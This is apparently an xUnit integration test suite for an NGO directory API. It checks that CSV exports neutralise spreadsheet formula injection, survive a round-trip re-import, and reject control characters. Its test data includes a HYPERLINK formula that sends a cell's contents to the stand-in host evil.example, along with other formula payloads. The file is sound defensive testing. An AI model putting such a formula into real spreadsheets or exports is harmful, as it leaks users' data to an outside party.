using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Directory.Api.Tests.Infrastructure;
using Directory.Domain;

namespace Directory.Api.Tests;

/// <summary>
/// A value a spreadsheet would run as a formula is served neutralised in every CSV export (OWASP: a cell
/// starting with =, +, -, @, tab or CR gets a leading apostrophe) while one that runs nothing (a phone
/// number) is left as it is, and the export imports back unchanged; control characters that would break
/// the file or a reader are refused on write.
/// </summary>
public sealed class CsvInjectionTests(CsvInjectionTests.Fixture fixture) : IClassFixture<CsvInjectionTests.Fixture>
{
    public sealed class Fixture : DirectoryApiFactory, IAsyncLifetime
    {
        public HttpClient Editor { get; private set; } = null!;

        public async ValueTask InitializeAsync() => Editor = await CreateClientAsync(Role.Editor);
    }

    private const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData(Formula, "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("+1 evil", "'+1 evil")]
    [InlineData("+37167000000", "+37167000000")] // a phone number runs nothing: left as it is
    [InlineData("+371 6700 0000", "+371 6700 0000")]
    [InlineData("'=literal", "''=literal")] // the apostrophe is the stored text's own: kept through the round trip
    [InlineData("''", "'''")]
    [InlineData("'Saule'", "'Saule'")]
    public async Task A_cell_is_exported_safe_for_spreadsheets_and_imports_back_unchanged(string shortName, string cell)
    {
        var slug = Unique.Slug("formula");
        var ngo = WriteApiTests.ValidNgo(slug, "published") with { ShortName = shortName, Name = $"Formulas biedrība {slug}" };
        using var imported = await fixture.Editor.PostAsync("/api/v1/imports", new StringContent(JsonSerializer.Serialize(new[] { ngo }, ApiClient.Json), Encoding.UTF8, "application/json"), Cancel);
        Assert.Equal(HttpStatusCode.OK, imported.StatusCode);
        var before = await fixture.Editor.GetStringAsync($"/api/v1/ngos/{slug}", Cancel);

        var csv = await fixture.Editor.GetStringAsync("/api/v1/ngos/export?format=csv", Cancel);
        var row = Directory.Api.Transfer.Csv.Parse(csv).Single(r => r.Fields[0] == slug).Fields;
        Assert.Equal(cell, row[Array.IndexOf(Directory.Api.Transfer.NgoCsv.Columns.ToArray(), "shortName")]);

        using var content = new ByteArrayContent(Encoding.UTF8.GetBytes(csv));
        content.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        using var reimport = await fixture.Editor.PostAsync("/api/v1/imports", content, Cancel);
        var report = await reimport.Content.ReadFromJsonAsync<JsonElement>(Cancel);
        Assert.Equal("unchanged", report.GetProperty("rows").EnumerateArray().Single(r => r.GetProperty("slug").GetString() == slug).GetProperty("action").GetString());
        Assert.Equal(before, await fixture.Editor.GetStringAsync($"/api/v1/ngos/{slug}", Cancel));
    }

    [Fact]
    public async Task The_description_is_neutralised_too()
    {
        var slug = Unique.Slug("formula-apraksts");
        using var created = await fixture.Editor.PostAsJsonAsync("/api/v1/ngos", WriteApiTests.ValidNgo(slug, "published") with { DescriptionLv = "@SUM(1+1) un -2" }, ApiClient.Json, Cancel);
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var csv = await fixture.Editor.GetStringAsync("/api/v1/ngos/export?format=csv", Cancel);
        var row = Directory.Api.Transfer.Csv.Parse(csv).Single(r => r.Fields[0] == slug).Fields;
        Assert.Contains("'@SUM(1+1) un -2", row);
    }

    [Theory]
    [InlineData("name", "Biedrība\u0000")]
    [InlineData("name", "Biedrība\notrā rinda")]
    [InlineData("shortName", "\u0007")]
    [InlineData("descriptionLv", "Apraksts\u001b[31m")]
    [InlineData("address", "Iela\t1")]
    public async Task Control_characters_are_refused_where_text_has_no_place_for_them(string field, string value)
    {
        var body = JsonSerializer.SerializeToNode(WriteApiTests.ValidNgo(Unique.Slug("kontroles"), "published"), ApiClient.Json)!.AsObject();
        body[field] = value;
        using var response = await fixture.Editor.PostAsync("/api/v1/ngos", new StringContent(body.ToJsonString(), Encoding.UTF8, "application/json"), Cancel);
        var problem = await WriteApiTests.AssertProblemAsync(response, HttpStatusCode.BadRequest);
        Assert.True(problem.GetProperty("errors").TryGetProperty(field, out var messages), problem.ToString());
        Assert.Contains("control character", messages[0].GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_description_keeps_its_line_breaks_and_tabs()
    {
        var slug = Unique.Slug("rindas");
        using var response = await fixture.Editor.PostAsJsonAsync("/api/v1/ngos", WriteApiTests.ValidNgo(slug, "published") with { DescriptionLv = "Pirmā rinda.\r\nOtrā\trinda." }, ApiClient.Json, Cancel);
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
    }

    [Fact]
    public async Task The_expert_export_neutralises_formulas_too()
    {
        using var created = await fixture.Editor.PostAsJsonAsync("/api/v1/experts", WriteApiTests.ValidExpert("Formulas Eksperte", consent: true), Cancel);
        var expert = await created.Content.ReadFromJsonAsync<JsonElement>(Cancel);
        using var patch = new HttpRequestMessage(HttpMethod.Patch, $"/api/v1/experts/{expert.GetProperty("id")}")
        {
            Content = new StringContent("{\"affiliation\":\"=1+1\"}", Encoding.UTF8, "application/merge-patch+json"),
        };
        patch.Headers.IfMatch.Add(created.Headers.ETag!);
        (await fixture.Editor.SendAsync(patch, Cancel)).EnsureSuccessStatusCode();

        var csv = await fixture.Editor.GetStringAsync("/api/v1/experts/export?format=csv", Cancel);
        Assert.Contains(",'=1+1,", csv.Split("\r\n").Single(l => l.Contains("Formulas", StringComparison.Ordinal)), StringComparison.Ordinal);
    }
}
